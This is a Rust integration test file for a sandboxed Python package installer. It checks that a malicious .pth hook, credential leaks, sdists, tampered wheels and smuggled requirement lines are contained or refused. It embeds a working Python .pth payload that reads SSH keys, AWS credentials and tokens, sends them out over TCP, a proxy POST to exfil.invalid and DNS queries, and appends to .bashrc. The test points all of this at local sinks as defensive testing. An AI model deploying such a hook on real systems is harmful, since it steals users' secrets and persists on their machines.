@@ -1,0 +1,1085 @@
+//! `seal install`: the environment is built by sandboxes that reach only the package index and
+//! see none of the user's files, from wheels only, swapped in atomically, optionally pinned by
+//! seal.lock; `seal run` then uses it with no network.
+//!
+//! Every test runs as root and as uid 65534 (see `install_support`) against a PEP 503 index
+//! served by the test on 127.0.0.1, with wheels built by the test. Sinks listen on host loopback
+//! only. The one exception is `real_pypi_end_to_end`, which installs a tiny wheel from the real
+//! PyPI (skip it with SEAL_TEST_NO_PYPI=1).
+
+mod install_support;
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::os::unix::fs::MetadataExt;
+use std::path::Path;
+use std::time::Duration;
+
+use install_support::*;
+
+// ---------------------------------------------------------------------------------------------
+// Packages
+
+/// alpha 1.0 (depends on beta, has a console script) and beta 2.0, published on `index`.
+fn benign(index: &PyIndex) -> (Artifact, Artifact) {
+    let alpha = index.wheel(&alpha_spec("1.0"));
+    let beta =
+        index.wheel(&WheelSpec::new("beta", "2.0").file("beta/__init__.py", "VERSION = '2.0'\n"));
+    index.publish("alpha", &[&alpha]);
+    index.publish("beta", &[&beta]);
+    (alpha, beta)
+}
+
+fn alpha_spec(version: &str) -> WheelSpec {
+    WheelSpec::new("alpha", version)
+        .file(
+            "alpha/__init__.py",
+            &format!(
+                "import beta\nVERSION = '{version}'\n\
+                 def main():\n    print('alpha-cli', VERSION, 'beta', beta.VERSION)\n"
+            ),
+        )
+        .requires("beta")
+        .entry_points("[console_scripts]\nalpha-cli = alpha:main\n")
+}
+
+/// `import alpha` in `seal run`, returning alpha's version.
+fn sealed_alpha_version(env: &TestEnv) -> String {
+    let out = env.run(&[
+        "python",
+        "-c",
+        "import alpha; print('ALPHA', alpha.VERSION)",
+    ]);
+    out.expect_success();
+    out.stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("ALPHA "))
+        .unwrap_or_else(|| panic!("no ALPHA line\n{}", out.describe()))
+        .to_string()
+}
+
+fn env_json(env: &TestEnv) -> serde_json::Value {
+    let out = env.seal(&["env", "--json"]).output();
+    out.expect_success();
+    serde_json::from_str(&out.stdout)
+        .unwrap_or_else(|e| panic!("seal env --json is not JSON: {e}\n{}", out.describe()))
+}
+
+fn env_packages(env: &TestEnv) -> Vec<(String, String)> {
+    let j = env_json(env);
+    let mut v: Vec<(String, String)> = j["packages"]
+        .as_array()
+        .unwrap_or_else(|| panic!("no packages array in {j}"))
+        .iter()
+        .map(|p| {
+            (
+                p["name"].as_str().unwrap_or_default().to_string(),
+                p["version"].as_str().unwrap_or_default().to_string(),
+            )
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+fn assert_no_tmp_install(env: &TestEnv, when: &str) {
+    let left = tmp_install_dirs(&env.project);
+    assert!(
+        left.is_empty(),
+        "{when}: temporary install directories left behind in .seal: {left:?}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 1. A malicious .pth hook: installed (and reported), then triggered by `seal run`
+
+/// The payload of `zzz_evilpkg.pth` (`import evilpkg_hook; evilpkg_hook.run()`): what real
+/// .pth malware does at every interpreter start. It logs each attempt's result (errno name or
+/// "OK") as one JSON line on stderr.
+const HOOK: &str = r#"
+import errno as _errno, json as _json, os as _os, socket as _socket, sys as _sys
+CFG = _json.loads(__CFG__)
+def _en(e):
+    if isinstance(e, OSError) and e.errno:
+        return _errno.errorcode.get(e.errno, "E%d" % e.errno)
+    if isinstance(e, (TimeoutError, _socket.timeout)):
+        return "TIMEOUT"
+    return "EXC:%s:%s" % (type(e).__name__, e)
+def run():
+    if _os.environ.get("SEAL_TEST_PTH_DONE") == CFG["marker"]:
+        return
+    _os.environ["SEAL_TEST_PTH_DONE"] = CFG["marker"]
+    R = {}
+    stolen = []
+    def attempt(key, fn):
+        try:
+            v = fn()
+            R[key] = "OK" if v is None else v
+        except BaseException as e:
+            R[key] = _en(e)
+    def rd(p):
+        with open(p, "rb") as f:
+            stolen.append(f.read(300).decode("utf-8", "replace").strip())
+    for rel in CFG["files"]:
+        attempt("read_home:" + rel, lambda rel=rel: rd(_os.path.join(_os.path.expanduser("~"), rel)))
+        attempt("read_abs:" + rel, lambda rel=rel: rd(_os.path.join(CFG["host_home"], rel)))
+    for n in CFG["env"]:
+        v = _os.environ.get(n)
+        R["env:" + n] = "present" if v else "absent"
+        if v:
+            stolen.append(v)
+    payload = ("EXFIL %s %s" % (CFG["marker"], " ".join(stolen))).encode()
+    def tcp_send(host, port, data):
+        s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+        s.settimeout(3)
+        try:
+            s.connect((host, port))
+            s.sendall(data)
+        finally:
+            s.close()
+    attempt("tcp_direct", lambda: tcp_send("127.0.0.1", CFG["tcp_port"], payload))
+    post = (b"POST http://exfil.invalid/collect HTTP/1.1\r\nHost: exfil.invalid\r\n"
+            b"Content-Length: %d\r\n\r\n" % len(payload)) + payload
+    px = None
+    for k in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"):
+        px = px or _os.environ.get(k)
+    R["proxy_env"] = px or "unset"
+    if px:
+        h, _, p = px.split("://", 1)[-1].split("/", 1)[0].rpartition(":")
+        attempt("proxy_via_env", lambda: tcp_send(h, int(p), post))
+    attempt("proxy_3128", lambda: tcp_send("127.0.0.1", 3128, post))
+    def dns():
+        data = "".join("%02x" % b for b in " ".join(stolen).encode()[:31]) or "none"
+        q = b"\x53\x45\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+        for label in (CFG["marker"], data, "exfil", "invalid"):
+            q += bytes([len(label)]) + label.encode()
+        q += b"\x00\x00\x10\x00\x01"
+        s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+        s.settimeout(2)
+        try:
+            attempt("dns_send", lambda: s.connect(("127.0.0.1", CFG["dns_port"])) or s.send(q) and None)
+            if R["dns_send"] == "OK":
+                attempt("dns_recv", lambda: s.recv(512) and None)
+            else:
+                R["dns_recv"] = "not sent"
+        finally:
+            s.close()
+    dns()
+    def write(path, mode="w"):
+        with open(path, mode) as f:
+            f.write("\n# pwned %s\n" % CFG["marker"])
+    attempt("write_project", lambda: write(_os.path.join(CFG["project"], "PWNED-" + CFG["marker"])))
+    attempt("write_bashrc", lambda: write(_os.path.join(CFG["host_home"], ".bashrc"), "a"))
+    here = _os.path.dirname(_os.path.abspath(__file__))
+    attempt("write_site_packages", lambda: write(_os.path.join(here, "PWNED-" + CFG["marker"])))
+    _sys.stderr.write("SEAL-PTH-LOG " + _json.dumps(R, sort_keys=True) + "\n")
+    _sys.stderr.flush()
+"#;
+
+const PTH_FILES: &[&str] = &[".ssh/id_rsa", ".aws/credentials", ".netrc", ".pypirc"];
+const PTH_ENV: &[&str] = &["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"];
+const NET_REFUSED: &[&str] = &["ECONNREFUSED", "ENETUNREACH", "EPERM", "EACCES"];
+
+fn pth_log(out: &Output) -> BTreeMap<String, String> {
+    let line = out
+        .stderr
+        .lines()
+        .find_map(|l| l.strip_prefix("SEAL-PTH-LOG "))
+        .unwrap_or_else(|| {
+            panic!(
+                "the .pth payload did not run (no SEAL-PTH-LOG line)\n{}",
+                out.describe()
+            )
+        });
+    serde_json::from_str(line).unwrap_or_else(|e| panic!("bad payload log {line:?}: {e}"))
+}
+
+fn expect_log(log: &BTreeMap<String, String>, key: &str, allowed: &[&str], out: &Output) {
+    let v = log
+        .get(key)
+        .unwrap_or_else(|| panic!("payload log has no {key:?}: {log:#?}\n{}", out.describe()));
+    assert!(
+        allowed.contains(&v.as_str()),
+        "{key}: expected one of {allowed:?}, got {v:?}\nwhole log: {log:#?}\n{}",
+        out.describe()
+    );
+}
+
+#[test]
+fn malicious_pth_is_reported_and_contained_at_run_time() {
+    each_variant(|v| {
+        let mut env = TestEnv::new(v, "pth");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let tcp = TcpSink::start();
+        let proxy = TcpSink::start();
+        let dns = DnsStub::start();
+        let marker = format!("m{}", env.nonce);
+        let cfg = serde_json::json!({
+            "marker": marker,
+            "tcp_port": tcp.port,
+            "dns_port": dns.port,
+            "project": env.project,
+            "host_home": env.home,
+            "files": PTH_FILES,
+            "env": PTH_ENV,
+        });
+        let hook = HOOK.replace("__CFG__", &serde_json::to_string(&cfg.to_string()).unwrap());
+        let pth_line = "import evilpkg_hook; evilpkg_hook.run()";
+        let evil = index.wheel(
+            &WheelSpec::new("evilpkg", "1.0")
+                .file("evilpkg/__init__.py", "")
+                .file("evilpkg_hook.py", &hook)
+                .file("zzz_evilpkg.pth", &format!("{pth_line}\n")),
+        );
+        index.publish("evilpkg", &[&evil]);
+
+        // Install: succeeds, and names the hook.
+        let out = env.install(&index.url(), &["evilpkg"]);
+        out.expect_success();
+        env.assert_no_canary(&out);
+        let findings = out.stderr_lines("seal: finding: ");
+        assert!(
+            findings
+                .iter()
+                .any(|l| l.starts_with("seal: finding: pth-code ") && l.contains("zzz_evilpkg.pth")),
+            "install did not report the .pth hook as a pth-code finding\n{}",
+            out.describe()
+        );
+        let sp = site_packages(&env.env_dir());
+        assert!(
+            sp.join("zzz_evilpkg.pth").is_file(),
+            "the .pth was not installed"
+        );
+        // Installing ran no package code: nothing reached the sinks.
+        std::thread::sleep(Duration::from_millis(300));
+        assert_eq!(
+            (tcp.hits(), proxy.hits(), dns.hits()),
+            (0, 0, 0),
+            "install reached a sink"
+        );
+
+        // `seal env` and `seal env --json` show it.
+        let text = env.seal(&["env"]).output();
+        text.expect_success();
+        assert!(
+            text.stdout
+                .lines()
+                .any(|l| l.contains("pth-code") && l.contains("zzz_evilpkg.pth")),
+            "seal env does not list the pth-code finding\n{}",
+            text.describe()
+        );
+        let j = env_json(&env);
+        let listed = j["findings"].as_array().is_some_and(|f| {
+            f.iter().any(|x| {
+                x["kind"] == "pth-code"
+                    && x["path"]
+                        .as_str()
+                        .is_some_and(|p| p.ends_with("site-packages/zzz_evilpkg.pth"))
+            })
+        });
+        assert!(listed, "seal env --json does not list the finding: {j}");
+
+        // Trigger: any interpreter start in the environment runs the hook.
+        let project_before = snapshot(&env.project);
+        env.set_env("HTTPS_PROXY", &format!("http://127.0.0.1:{}", proxy.port));
+        let out = env.run(&["python", "-c", "pass"]);
+        out.expect_success();
+        env.assert_no_canary(&out);
+        let log = pth_log(&out);
+        for rel in PTH_FILES {
+            expect_log(
+                &log,
+                &format!("read_home:{rel}"),
+                &["ENOENT", "EACCES"],
+                &out,
+            );
+            expect_log(
+                &log,
+                &format!("read_abs:{rel}"),
+                &["ENOENT", "EACCES"],
+                &out,
+            );
+        }
+        for n in PTH_ENV {
+            expect_log(&log, &format!("env:{n}"), &["absent"], &out);
+        }
+        expect_log(&log, "tcp_direct", NET_REFUSED, &out);
+        expect_log(&log, "proxy_env", &["unset"], &out);
+        expect_log(&log, "proxy_3128", NET_REFUSED, &out);
+        expect_log(
+            &log,
+            "dns_send",
+            &["OK", "ECONNREFUSED", "ENETUNREACH", "EPERM", "EACCES"],
+            &out,
+        );
+        expect_log(
+            &log,
+            "dns_recv",
+            &["ECONNREFUSED", "ENETUNREACH", "TIMEOUT", "not sent"],
+            &out,
+        );
+        expect_log(&log, "write_project", &["EROFS", "EACCES"], &out);
+        // The host's file is checked below (assert_home_intact); inside, the path may exist
+        // only as mount-point scaffolding of the sandbox's private root, where a write lands
+        // in that tmpfs.
+        expect_log(
+            &log,
+            "write_bashrc",
+            &["EROFS", "EACCES", "ENOENT", "OK"],
+            &out,
+        );
+        expect_log(&log, "write_site_packages", &["EROFS", "EACCES"], &out);
+        std::thread::sleep(Duration::from_millis(500));
+        assert_eq!(
+            (tcp.hits(), proxy.hits(), dns.hits()),
+            (0, 0, 0),
+            "a sink was reached from seal run: tcp {:?} proxy {:?} dns {:?}",
+            tcp.received(),
+            proxy.received(),
+            dns.received()
+        );
+        assert_same_snapshot(&project_before, &snapshot(&env.project), "the project tree");
+        env.assert_home_intact();
+
+        // Positive control: the same installed .pth processed by /usr/bin/python3 on the host
+        // (same user, environment, working directory) reaches every sink.
+        let ctl = env
+            .host(
+                PYTHON,
+                &[
+                    "-I",
+                    "-c",
+                    &format!("import site; site.addsitedir({:?})", sp.to_str().unwrap()),
+                ],
+            )
+            .output();
+        ctl.expect_success();
+        let clog = pth_log(&ctl);
+        for k in [
+            "tcp_direct",
+            "proxy_via_env",
+            "dns_send",
+            "dns_recv",
+            "write_project",
+        ] {
+            expect_log(&clog, k, &["OK"], &ctl);
+        }
+        expect_log(&clog, "read_home:.ssh/id_rsa", &["OK"], &ctl);
+        expect_log(&clog, "env:AWS_SECRET_ACCESS_KEY", &["present"], &ctl);
+        let got = |f: &dyn Fn() -> String, needle: &str| {
+            wait_until(Duration::from_secs(10), || f().contains(needle))
+        };
+        assert!(
+            got(
+                &|| tcp.received(),
+                &env.canary_env_value("AWS_SECRET_ACCESS_KEY")
+            ) && got(
+                &|| tcp.received(),
+                env.canary_file_content(".ssh/id_rsa").trim()
+            ),
+            "positive control: the TCP sink did not get the secrets: {:?}",
+            tcp.received()
+        );
+        assert!(
+            got(&|| proxy.received(), "POST http://exfil.invalid/collect")
+                && got(&|| proxy.received(), &marker),
+            "positive control: the proxy sink got {:?}",
+            proxy.received()
+        );
+        assert!(
+            got(&|| dns.received(), &marker),
+            "positive control: the DNS stub got {:?}",
+            dns.received()
+        );
+        assert!(
+            env.project.join(format!("PWNED-{marker}")).exists(),
+            "positive control: the payload could not write into the project"
+        );
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// 2. The install phase sees none of the user's files; sdists are never fetched
+
+#[test]
+fn install_phase_sees_no_user_files_or_credentials() {
+    each_variant(|v| {
+        let mut env = TestEnv::new(v, "nosee");
+        let index = PyIndex::start(&env.dir.join("index"));
+        benign(&index);
+        let port = index.port;
+        let tag = env.tag.clone();
+        // Credentials and configuration pip itself would pick up from HOME and the environment,
+        // all pointing at this index: if pip in the sandbox saw any of them, the index would
+        // get a request carrying the canary.
+        let creds = [
+            format!("netrcuser:{tag}-netrc"),
+            format!("confuser:{tag}-pipconf"),
+            format!("envuser:{tag}-pipenv"),
+        ];
+        env.write_home_file(
+            ".netrc",
+            &format!("machine 127.0.0.1 login netrcuser password {tag}-netrc\n"),
+        );
+        let conf = format!(
+            "[global]\nextra-index-url = http://confuser:{tag}-pipconf@127.0.0.1:{port}/extra-conf/simple\n"
+        );
+        env.write_home_file(".config/pip/pip.conf", &conf);
+        env.write_home_file(".pip/pip.conf", &conf);
+        env.set_env(
+            "PIP_EXTRA_INDEX_URL",
+            &format!("http://envuser:{tag}-pipenv@127.0.0.1:{port}/extra-env/simple"),
+        );
+        env.set_env(
+            "PIP_FIND_LINKS",
+            &format!("http://127.0.0.1:{port}/find-links-{tag}/"),
+        );
+        // Project files, among them the requirement file given with -r.
+        let project_files = ["requirements.txt", ".env", "secret_model.py"];
+        env.write_owned(
+            &env.project.join("requirements.txt"),
+            &format!("alpha  # pinned for {tag}\n"),
+            0o644,
+        );
+        env.write_owned(
+            &env.project.join(".env"),
+            &format!("SECRET={tag}-dotenv\n"),
+            0o600,
+        );
+        env.write_owned(
+            &env.project.join("secret_model.py"),
+            &format!("KEY = '{tag}-source'\n"),
+            0o644,
+        );
+
+        let out = env.install(&index.url(), &["-r", "requirements.txt"]);
+        out.expect_success();
+        env.assert_no_canary(&out);
+        assert_eq!(sealed_alpha_version(&env), "1.0");
+
+        let leaks = |reqs: &[Request]| -> Vec<String> {
+            reqs.iter()
+                .filter(|r| {
+                    let head = r.head.to_ascii_lowercase();
+                    head.contains(&tag.to_ascii_lowercase())
+                        || head.contains("authorization:")
+                        || r.path.starts_with("/extra-")
+                        || r.path.starts_with("/find-links")
+                        || creds.iter().any(|c| r.head.contains(&base64(c.as_bytes())))
+                })
+                .map(|r| r.head.clone())
+                .collect()
+        };
+        let seen = index.requests();
+        assert!(
+            seen.iter().any(|r| r.path.contains("/files/alpha-")),
+            "the install did not fetch from the index:\n{}",
+            index.describe_requests()
+        );
+        let leaked = leaks(&seen);
+        assert!(
+            leaked.is_empty(),
+            "the index received the user's credentials/config from the install sandbox:\n{leaked:#?}"
+        );
+
+        // The environment holds no copy of any project file.
+        let env_dir = env.env_dir();
+        for rel in walk(&env_dir) {
+            let p = env_dir.join(&rel);
+            let name = rel.file_name().unwrap().to_string_lossy().into_owned();
+            assert!(
+                !project_files.contains(&name.as_str()),
+                ".seal/env contains a project file name: {}",
+                rel.display()
+            );
+            if fs::symlink_metadata(&p).is_ok_and(|m| m.is_file()) {
+                let data = fs::read(&p).unwrap();
+                assert!(
+                    !String::from_utf8_lossy(&data).contains(&tag),
+                    ".seal/env/{} contains a canary",
+                    rel.display()
+                );
+            }
+        }
+
+        // Positive control: plain pip on the host, same user and environment, does hand the
+        // credentials to the index.
+        let before = seen.len();
+        let dl = env.home.join("dl");
+        env.mkdir_owned(&dl, 0o755);
+        let ctl = env
+            .host(
+                PYTHON,
+                &[
+                    "-m",
+                    "pip",
+                    "download",
+                    "--no-deps",
+                    "--only-binary=:all:",
+                    "--disable-pip-version-check",
+                    "--dest",
+                    dl.to_str().unwrap(),
+                    "--index-url",
+                    &index.url(),
+                    "alpha",
+                ],
+            )
+            .output();
+        let after = index.requests();
+        let ctl_leaks = leaks(&after[before..]);
+        assert!(
+            !ctl_leaks.is_empty(),
+            "positive control: host pip sent nothing recognisable to the index\nrequests:\n{}\n{}",
+            index.describe_requests(),
+            ctl.describe()
+        );
+    });
+}
+
+#[test]
+fn sdist_only_package_is_refused_and_never_downloaded() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "sdist");
+        let index = PyIndex::start(&env.dir.join("index"));
+        benign(&index);
+        let gamma = index.sdist(
+            "gamma",
+            "1.0",
+            "raise SystemExit('seal-test: the sdist build code of gamma ran')\n",
+        );
+        index.publish("gamma", &[&gamma]);
+        env.install(&index.url(), &["alpha"]).expect_success();
+        let env_before = snapshot(&env.env_dir());
+
+        let out = env.install(&index.url(), &["gamma"]);
+        out.expect_failure();
+        assert!(
+            out.stderr.lines().any(|l| l.starts_with("seal: ")),
+            "no seal: message\n{}",
+            out.describe()
+        );
+        assert!(
+            index.hits("/simple/gamma/") >= 1,
+            "the index page of gamma was not even looked at:\n{}",
+            index.describe_requests()
+        );
+        assert_eq!(
+            index.hits(".tar.gz"),
+            0,
+            "the sdist was downloaded:\n{}",
+            index.describe_requests()
+        );
+        assert_same_snapshot(&env_before, &snapshot(&env.env_dir()), ".seal/env");
+        assert_eq!(sealed_alpha_version(&env), "1.0");
+        assert_no_tmp_install(&env, "after the failed install");
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// 3. Benign packages with dependencies
+
+#[test]
+fn benign_packages_with_dependencies_install_and_import() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "benign");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let (alpha, beta) = benign(&index);
+        let out = env.install(&index.url(), &["alpha"]);
+        out.expect_success();
+        assert!(
+            out.stderr_lines("seal: finding").is_empty(),
+            "benign packages produced findings\n{}",
+            out.describe()
+        );
+        for a in [&alpha, &beta] {
+            assert_eq!(
+                index.hits(&format!("/files/{}", a.file)),
+                1,
+                "{} not fetched exactly once:\n{}",
+                a.file,
+                index.describe_requests()
+            );
+        }
+        assert_no_tmp_install(&env, "after a successful install");
+        assert_eq!(
+            env_packages(&env),
+            vec![
+                ("alpha".into(), "1.0".into()),
+                ("beta".into(), "2.0".into())
+            ]
+        );
+
+        let requests_before = index.requests().len();
+        let connections_before = index.connections();
+        let out = env.run(&[
+            "python",
+            "-c",
+            "import alpha, beta, sys; print('OUT', alpha.VERSION, beta.VERSION, sys.prefix, sys.executable)",
+        ]);
+        out.expect_success();
+        assert!(
+            out.stdout
+                .contains("OUT 1.0 2.0 /seal/env /seal/env/bin/python"),
+            "{}",
+            out.describe()
+        );
+        // The console script's shebang, written at install time, is valid at run time.
+        let out = env.run(&["alpha-cli"]);
+        out.expect_success();
+        assert!(
+            out.stdout.contains("alpha-cli 1.0 beta 2.0"),
+            "{}",
+            out.describe()
+        );
+        assert_eq!(
+            index.requests().len(),
+            requests_before,
+            "seal run talked to the index"
+        );
+        assert_eq!(
+            index.connections(),
+            connections_before,
+            "seal run connected to the index"
+        );
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// 4. An interrupted install leaves the previous environment in place
+
+#[test]
+fn killed_install_keeps_the_old_environment() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "kill");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let (alpha1, beta) = benign(&index);
+        env.install(&index.url(), &["alpha"]).expect_success();
+        let env_before = snapshot(&env.env_dir());
+        let ino_before = fs::metadata(env.env_dir()).unwrap().ino();
+
+        // alpha 2.0 appears; every response is slow.
+        let alpha2 = index.wheel(&alpha_spec("2.0"));
+        index.publish("alpha", &[&alpha1, &alpha2]);
+        index.set_delay(Some(("/", Duration::from_secs(3))));
+        let start = index.requests().len();
+        let mut running = env
+            .seal(&[
+                "install",
+                "--python",
+                PYTHON,
+                "--index-url",
+                &index.url(),
+                "alpha==2.0",
+            ])
+            .spawn();
+        let reached = wait_until(Duration::from_secs(120), || {
+            index.requests()[start..]
+                .iter()
+                .any(|r| r.path.starts_with("/files/"))
+                || running.exited()
+        });
+        assert!(
+            reached && !running.exited(),
+            "the second install did not get to downloading a file (or ended early)\n{}\nrequests:\n{}",
+            running.stderr_so_far(),
+            index.describe_requests()
+        );
+        let pid = running.pid();
+        running.signal(libc::SIGKILL);
+        let out = running.finish();
+        assert_eq!(out.code, 128 + libc::SIGKILL, "{}", out.describe());
+        index.set_delay(None);
+
+        let stale = format!("tmp-install-{pid}");
+        assert!(
+            tmp_install_dirs(&env.project).contains(&stale),
+            "no {stale} in .seal: the install was not killed mid-way ({:?})",
+            tmp_install_dirs(&env.project)
+        );
+        assert_same_snapshot(
+            &env_before,
+            &snapshot(&env.env_dir()),
+            ".seal/env after the kill",
+        );
+        assert_eq!(fs::metadata(env.env_dir()).unwrap().ino(), ino_before);
+        assert_eq!(sealed_alpha_version(&env), "1.0");
+
+        // The next successful install replaces the environment and sweeps the stale directory.
+        let out = env.install(&index.url(), &["alpha==2.0"]);
+        out.expect_success();
+        assert_eq!(sealed_alpha_version(&env), "2.0");
+        assert_no_tmp_install(&env, "after the next successful install");
+        let _ = beta;
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// 5. seal.lock
+
+fn read_lock(project: &Path) -> (toml::Table, Vec<(String, String, String, String)>) {
+    let text = fs::read_to_string(project.join("seal.lock")).expect("seal.lock written");
+    let t: toml::Table = toml::from_str(&text).unwrap_or_else(|e| panic!("seal.lock: {e}\n{text}"));
+    let mut pkgs: Vec<(String, String, String, String)> = t["package"]
+        .as_array()
+        .unwrap_or_else(|| panic!("seal.lock has no [[package]]\n{text}"))
+        .iter()
+        .map(|p| {
+            let s = |k: &str| {
+                p.get(k)
+                    .and_then(|v| v.as_str())
+                    .unwrap_or_else(|| panic!("[[package]] without {k}\n{text}"))
+                    .to_string()
+            };
+            (s("name"), s("version"), s("file"), s("sha256"))
+        })
+        .collect();
+    pkgs.sort();
+    (t, pkgs)
+}
+
+#[test]
+fn lock_pins_artifacts_and_refuses_tampered_ones() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "lock");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let (alpha, beta) = benign(&index);
+        let out = env.install(&index.url(), &["--lock", "alpha"]);
+        out.expect_success();
+        let (table, pkgs) = read_lock(&env.project);
+        assert_eq!(table["version"].as_integer(), Some(1));
+        assert_eq!(table["index"].as_str(), Some(index.url().as_str()));
+        assert!(table["python"]
+            .as_str()
+            .is_some_and(|p| p.starts_with("3.")));
+        let expected: Vec<(String, String, String, String)> = vec![
+            (
+                "alpha".into(),
+                "1.0".into(),
+                alpha.file.clone(),
+                alpha.sha256.clone(),
+            ),
+            (
+                "beta".into(),
+                "2.0".into(),
+                beta.file.clone(),
+                beta.sha256.clone(),
+            ),
+        ];
+        assert_eq!(
+            pkgs, expected,
+            "seal.lock does not pin exactly the served artifacts"
+        );
+        let lock_bytes = fs::read(env.project.join("seal.lock")).unwrap();
+        let installed = installed_files(&env.env_dir());
+
+        // Recreate from the lock alone.
+        env.seal(&["env", "remove"]).output().expect_success();
+        assert!(!env.env_dir().exists());
+        let before = index.requests().len();
+        let out = env.seal(&["install", "--python", PYTHON]).output();
+        out.expect_success();
+        let fetched: Vec<String> = index.requests()[before..]
+            .iter()
+            .filter(|r| r.path.starts_with("/files/"))
+            .map(|r| r.path.clone())
+            .collect();
+        for a in [&alpha, &beta] {
+            assert!(
+                fetched.contains(&format!("/files/{}", a.file)),
+                "install from seal.lock did not fetch {}: {fetched:?}",
+                a.file
+            );
+        }
+        assert_eq!(
+            fs::read(env.project.join("seal.lock")).unwrap(),
+            lock_bytes,
+            "seal.lock changed"
+        );
+        assert_same_snapshot(
+            &installed,
+            &installed_files(&env.env_dir()),
+            "the recreated environment",
+        );
+        assert_eq!(sealed_alpha_version(&env), "1.0");
+
+        // A compromised index serves different bytes under the same name (and a matching
+        // #sha256 on its page): the install from the lock must refuse them.
+        let env_before = snapshot(&env.env_dir());
+        let tampered =
+            index.wheel(&alpha_spec("1.0").file("alpha/backdoor.py", "print('backdoor')\n"));
+        assert_eq!(tampered.file, alpha.file);
+        assert_ne!(tampered.sha256, alpha.sha256);
+        index.publish("alpha", &[&tampered]);
+        let before = index.requests().len();
+        let out = env.seal(&["install", "--python", PYTHON]).output();
+        out.expect_failure();
+        assert!(
+            index.requests()[before..]
+                .iter()
+                .any(|r| r.path == format!("/files/{}", alpha.file)),
+            "the tampered wheel was never requested (cached?):\n{}",
+            index.describe_requests()
+        );
+        assert!(
+            out.stderr.lines().any(|l| l.starts_with("seal: ")),
+            "no seal: message\n{}",
+            out.describe()
+        );
+        assert!(
+            out.stderr.to_ascii_lowercase().contains("hash"),
+            "the failure does not mention the hash mismatch\n{}",
+            out.describe()
+        );
+        assert_same_snapshot(
+            &env_before,
+            &snapshot(&env.env_dir()),
+            ".seal/env after the refused install",
+        );
+        let out = env.run(&["python", "-c", "import alpha.backdoor"]);
+        assert_ne!(
+            out.code,
+            0,
+            "the tampered wheel got installed\n{}",
+            out.describe()
+        );
+        assert_eq!(sealed_alpha_version(&env), "1.0");
+        assert_eq!(fs::read(env.project.join("seal.lock")).unwrap(), lock_bytes);
+        assert_no_tmp_install(&env, "after the refused install");
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// 6. Requirement validation
+
+/// Every `args` must be refused before anything is fetched: exit 125, one line on stderr.
+fn expect_refused_before_fetching(env: &TestEnv, index: &PyIndex, args: &[&str], what: &str) {
+    let connections = index.connections();
+    let out = env.install(&index.url(), args);
+    let lines: Vec<&str> = out
+        .stderr
+        .lines()
+        .filter(|l| !l.trim().is_empty())
+        .collect();
+    assert!(
+        out.code == 125 && lines.len() == 1 && lines[0].starts_with("seal: "),
+        "{what}: expected exit 125 and one `seal: ...` line\n{}\nindex requests:\n{}",
+        out.describe(),
+        index.describe_requests()
+    );
+    assert_eq!(
+        index.connections(),
+        connections,
+        "{what}: the index was contacted:\n{}",
+        index.describe_requests()
+    );
+    assert!(
+        !env.env_dir().exists(),
+        "{what}: an environment was created"
+    );
+    assert_no_tmp_install(env, what);
+}
+
+#[test]
+fn pip_options_and_direct_references_in_requirements_are_refused() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "reqs");
+        let index = PyIndex::start(&env.dir.join("index"));
+        benign(&index);
+        let cases: &[(&str, &str)] = &[
+            (
+                "index-url.txt",
+                "alpha\n--index-url http://evil.invalid/simple\n",
+            ),
+            ("editable.txt", "alpha\n-e .\n"),
+            ("vcs.txt", "alpha\npkg @ git+https://evil.invalid/pkg.git\n"),
+        ];
+        for (name, content) in cases {
+            env.write_owned(&env.project.join(name), content, 0o644);
+            expect_refused_before_fetching(&env, &index, &["-r", name], &format!("-r {name}"));
+        }
+        expect_refused_before_fetching(
+            &env,
+            &index,
+            &["pkg @ git+https://evil.invalid/pkg.git"],
+            "a VCS argument",
+        );
+        expect_refused_before_fetching(&env, &index, &["--", "-e ."], "an -e argument");
+    });
+}
+
+/// Other spellings of a direct reference (PEP 508 allows no space around `@`; pip joins lines
+/// ending in a backslash). The URL points at this index's own host, which the proxy allows, so
+/// only the requirement check stands between the line and the download.
+#[test]
+fn direct_reference_spellings_are_refused() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "direct");
+        let index = PyIndex::start(&env.dir.join("index"));
+        benign(&index);
+        let hidden = index.wheel(&WheelSpec::new("hidden", "1.0").file("hidden.py", "X = 1\n"));
+        let url = format!("http://127.0.0.1:{}/files/{}", index.port, hidden.file);
+        let cases = [
+            ("nospace.txt", format!("hidden@ {url}\n")),
+            ("tab.txt", format!("hidden @\t{url}\n")),
+            ("continued.txt", format!("hidden \\\n@ {url}\n")),
+            ("extras.txt", format!("hidden[x]@ {url}\n")),
+        ];
+        let mut failures = Vec::new();
+        for (name, content) in &cases {
+            env.write_owned(&env.project.join(name), content, 0o644);
+            let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
+                expect_refused_before_fetching(
+                    &env,
+                    &index,
+                    &["-r", name],
+                    &format!("-r {name} ({content:?})"),
+                );
+            }));
+            if let Err(e) = r {
+                let msg = e
+                    .downcast_ref::<String>()
+                    .cloned()
+                    .unwrap_or_else(|| "panic".into());
+                failures.push(msg);
+                // Start the next case from a clean project.
+                let _ = fs::remove_dir_all(env.project.join(".seal"));
+            }
+        }
+        assert!(
+            failures.is_empty(),
+            "{} of {} spellings were not refused:\n{}",
+            failures.len(),
+            cases.len(),
+            failures.join("\n=====\n")
+        );
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
